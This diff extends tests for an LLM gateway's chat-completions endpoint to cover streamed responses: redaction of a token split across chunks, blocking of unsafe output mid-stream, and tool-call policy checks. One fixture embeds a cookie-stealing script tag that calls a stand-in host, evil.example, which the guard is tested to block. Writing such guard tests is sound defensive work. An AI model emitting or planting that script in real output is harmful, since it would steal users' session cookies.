@@ -16,12 +16,45 @@ interface Received {
 // The upstream answers with what the test queues, or echoes the last message.
 const received: Received[] = [];
 const answers: unknown[] = [];
+/** Queued SSE scripts: each event a chunk object or raw data text (`[DONE]`). */
+const streams: unknown[][] = [];
+const delta = (d: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
+  id: "chatcmpl-s",
+  object: "chat.completion.chunk",
+  created: 1,
+  model: "gpt-4o-mini",
+  choices: [{ index: 0, delta: d, finish_reason: null, ...extra }],
+});
+/** A text streamed a few characters at a time, then usage and [DONE]. */
+function textStream(text: string, size = 3): unknown[] {
+  const events: unknown[] = [delta({ role: "assistant", content: "" })];
+  for (let i = 0; i < text.length; i += size) events.push(delta({ content: text.slice(i, i + size) }));
+  events.push(delta({}, { finish_reason: "stop" }));
+  events.push({
+    id: "chatcmpl-s",
+    object: "chat.completion.chunk",
+    created: 1,
+    model: "m",
+    choices: [],
+    usage: { prompt_tokens: 3, completion_tokens: 4, total_tokens: 7, secret_internal: "x" },
+  });
+  events.push("[DONE]");
+  return events;
+}
+const defaultStream = (last: string) => textStream(`echo: ${last}`);
 const upstream = createServer((req, res) => {
   const chunks: Buffer[] = [];
   req.on("data", (c: Buffer) => chunks.push(c));
   req.on("end", () => {
     const body = JSON.parse(Buffer.concat(chunks).toString()) as Received["body"];
     received.push({ authorization: req.headers.authorization, headers: req.headers, body });
+    if ((body as { stream?: boolean }).stream === true) {
+      const script = streams.shift() ?? defaultStream(String(body.messages.at(-1)?.content));
+      res.writeHead(200, { "content-type": "text/event-stream", "set-cookie": "upstream-session=abc" });
+      for (const event of script) res.write(`data: ${typeof event === "string" ? event : JSON.stringify(event)}\n\n`);
+      res.end();
+      return;
+    }
     const last = body.messages.at(-1)?.content;
     const answer = answers.shift() ?? {
       id: "chatcmpl-1",
@@ -210,7 +243,7 @@ describe("POST /v1/chat/completions", () => {
     assert.equal(code(await chat({ ...hello, tools: tools("search") })), "ERR_TOOL_ARGS_INVALID");
   });
 
-  it("refuses without llm:chat, unknown fields, streaming (for now) and oversized max_tokens", async () => {
+  it("refuses without llm:chat, unknown fields and oversized max_tokens", async () => {
     const viewer = await chat(hello, viewerKey);
     assert.equal(viewer.statusCode, 403);
     assert.equal(code(viewer), "ERR_FORBIDDEN");
@@ -219,7 +252,6 @@ describe("POST /v1/chat/completions", () => {
       code(await chat({ ...hello, messages: [{ role: "user", content: [{ type: "audio", data: "x" }] }] })),
       "ERR_BAD_REQUEST",
     );
-    assert.equal(code(await chat({ ...hello, stream: true })), "ERR_BAD_REQUEST");
     assert.equal(code(await chat({ ...hello, max_tokens: 10_000_000 })), "ERR_BAD_REQUEST");
     const none = await app.inject({ method: "POST", url: "/v1/chat/completions", payload: hello });
     assert.equal(none.statusCode, 401);
@@ -230,5 +262,103 @@ describe("POST /v1/chat/completions", () => {
     const res = await chat(hello);
     assert.equal(res.statusCode, 502);
     assert.equal(code(res), "ERR_UPSTREAM_FAILED");
+  });
+});
+
+/** The SSE events of a finished response: parsed chunks, error events, and whether [DONE] came. */
+function events(body: string) {
+  const data = body
+    .split("\n\n")
+    .filter((e) => e.startsWith("data: "))
+    .map((e) => e.slice(6));
+  const chunks = data.filter((d) => d !== "[DONE]").map((d) => JSON.parse(d) as Record<string, unknown>);
+  const text = chunks
+    .flatMap((c) => (c.choices as Array<{ delta: { content?: string } }> | undefined) ?? [])
+    .map((c) => c.delta.content ?? "")
+    .join("");
+  const error = chunks.find((c) => c.error !== undefined)?.error as { code: string } | undefined;
+  return { chunks, text, error, done: data.at(-1) === "[DONE]" };
+}
+
+describe("POST /v1/chat/completions with stream: true", () => {
+  const ask = (content = "What is the capital of France?") =>
+    chat({ model: "gpt-4o-mini", stream: true, messages: [{ role: "user", content }] });
+
+  it("relays a scanned stream, re-serialised (only known fields, usage counts only), with two durable audit events", async () => {
+    const res = await ask();
+    assert.equal(res.statusCode, 200);
+    assert.match(String(res.headers["content-type"]), /^text\/event-stream/);
+    assert.equal(res.headers["set-cookie"], undefined);
+    const e = events(res.body);
+    assert.equal(e.text, "echo: What is the capital of France?");
+    assert.equal(e.done, true);
+    assert.equal(e.error, undefined);
+    const last = e.chunks.at(-1) as { usage?: Record<string, unknown> };
+    assert.deepEqual(last.usage, { prompt_tokens: 3, completion_tokens: 4, total_tokens: 7 });
+    assert.equal((received.at(-1)?.body as { stream_options?: unknown }).stream_options !== undefined, true);
+    const audit = (await instance.audit.query({ type: "llm_request" })).events.filter(
+      (x) => x.requestId === res.headers["x-request-id"],
+    );
+    assert.deepEqual(audit.map((x) => x.action).sort(), ["llm.chat.stream.end", "llm.chat.stream.start"]);
+  });
+
+  it("redacts a secret split across many chunks; the caller never sees it whole or in pieces", async () => {
+    const leaked = "ghp_" + "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8";
+    streams.push(textStream(`Here you go: ${leaked} — use it wisely.`, 2));
+    const e = events((await ask("give me a token")).body);
+    assert.equal(e.done, true);
+    assert.ok(!e.text.includes(leaked.slice(4, 20)), e.text);
+    assert.match(e.text, /^Here you go: .+ — use it wisely\.$/);
+  });
+
+  it("cuts the stream with an error event when a block fires mid-stream; the unsafe part never leaves", async () => {
+    const prose = "The answer is long. ".repeat(400); // 8,000 characters: some is released before the block
+    streams.push(textStream(`${prose}<script>fetch("https://evil.example/?c="+document.cookie)</script> done`, 7));
+    const e = events((await ask("tell me")).body);
+    assert.ok(e.text.length > 1000, `released ${e.text.length} characters first`);
+    assert.ok(!e.text.includes("<script"));
+    assert.equal(e.error?.code, "ERR_GUARD_BLOCKED");
+    assert.equal(e.done, false);
+    const ends = (await instance.audit.query({ type: "guard_block" })).events.filter(
+      (x) => x.action === "llm.chat.stream.end",
+    );
+    assert.ok(ends.length > 0);
+  });
+
+  it("buffers tool calls until complete, then checks them against the tool policies", async () => {
+    const call = (name: string, args: string[]) => [
+      delta({
+        role: "assistant",
+        tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name, arguments: "" } }],
+      }),
+      ...args.map((a) => delta({ tool_calls: [{ index: 0, function: { arguments: a } }] })),
+      delta({}, { finish_reason: "tool_calls" }),
+      "[DONE]",
+    ];
+    streams.push(call("search", ['{"q":', '"weather', ' in Paris"}']));
+    const ok = events((await ask()).body);
+    assert.equal(ok.done, true);
+    const calls = ok.chunks
+      .flatMap((c) => (c.choices as Array<{ delta: { tool_calls?: unknown[] } }> | undefined) ?? [])
+      .flatMap((c) => c.delta.tool_calls ?? []);
+    assert.deepEqual(calls, [
+      { index: 0, id: "call_1", type: "function", function: { name: "search", arguments: '{"q":"weather in Paris"}' } },
+    ]);
+
+    streams.push(call("wire_money", ['{"to":"x"}']));
+    const denied = events((await ask()).body);
+    assert.equal(denied.error?.code, "ERR_TOOL_DENIED");
+    assert.equal(denied.done, false);
+  });
+
+  it("ends with an error event on an unknown field or a stream cut short", async () => {
+    streams.push([delta({ content: "hi" }), { ...delta({ content: "x" }), internal_debug: "leak" }, "[DONE]"]);
+    assert.equal(events((await ask()).body).error?.code, "ERR_UPSTREAM_FAILED");
+    streams.push([delta({ content: "hi", audio: "x" }), "[DONE]"]);
+    assert.equal(events((await ask()).body).error?.code, "ERR_UPSTREAM_FAILED");
+    streams.push([delta({ content: "partial answer" })]);
+    const cut = events((await ask()).body);
+    assert.equal(cut.error?.code, "ERR_UPSTREAM_FAILED");
+    assert.ok(!cut.text.includes("partial"), "held-back text of a broken stream is not released");
   });
 });
